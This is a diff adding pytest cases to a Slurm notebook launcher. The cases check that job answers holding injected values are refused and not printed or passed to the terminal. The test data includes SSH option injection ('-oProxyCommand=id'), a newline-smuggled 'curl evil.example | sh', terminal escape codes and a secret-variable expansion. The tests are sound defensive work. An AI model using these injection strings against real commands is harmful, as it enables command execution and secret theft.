@@ -205,6 +205,49 @@ def test_an_answer_that_is_none_is_told(answer: bytes) -> None:
         job.ask("12", Slurm(srun=[done(answer)]))
 
 
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"node": ""},
+        {"node": "-oProxyCommand=id"},
+        {"node": "n1\n  curl evil.example | sh"},
+        {"node": "n1\x1b[2J"},
+        {"node": "nöde"},
+        {"node": ["n1"]},
+        {"socket": "scratch/socket"},
+        {"socket": "/scratch/\nssh evil.example"},
+        {"socket": "/scratch/\x1b[2J"},
+        {"socket": "/scratch/\u202e"},
+        {"socket": "/scratch/${AWS_SECRET_ACCESS_KEY}"},
+        {"socket": "/scratch/%u"},
+        {"socket": "/scratch/evil:22"},
+        {"socket": f"/{'a' * 107}"},
+        {"token": ""},
+        {"token": "s3cret\nssh evil.example"},
+        {"token": "s3cret&x=1"},
+    ],
+)
+def test_what_would_be_pasted_with_more_in_it_is_not_printed(
+    changed: dict[str, object], release: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    answer = json.dumps(vars(PLACE) | changed).encode()
+    slurm = Slurm(squeue=[done(recorded(release, "4"))], srun=[done(answer)])
+    assert notebook.main(["--job", "12"], slurm) == 1
+    out, err = capsys.readouterr()
+    assert out == ""
+    assert "error: job 12 gives no answer that can be read: end it by scancel 12, and tell" in err
+    assert not any(word in err for word in ("evil", "Proxy", "\x1b", "s3cret"))
+
+
+def test_the_sentence_of_a_node_does_not_control_the_terminal(
+    release: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    said = "notebook: no\x1b[2J\u202e\rroom\n".encode()
+    slurm = Slurm(squeue=[done(recorded(release, "4"))], srun=[done(err=said, code=1)])
+    assert notebook.main(["--job", "12"], slurm) == 1
+    assert "error: no [2J room\n" in capsys.readouterr().err
+
+
 def test_a_step_that_hangs_is_told() -> None:
     slurm = Slurm(srun=[subprocess.TimeoutExpired("srun", 360)])
     with pytest.raises(NotebookError, match="try again by notebook --job 12"):
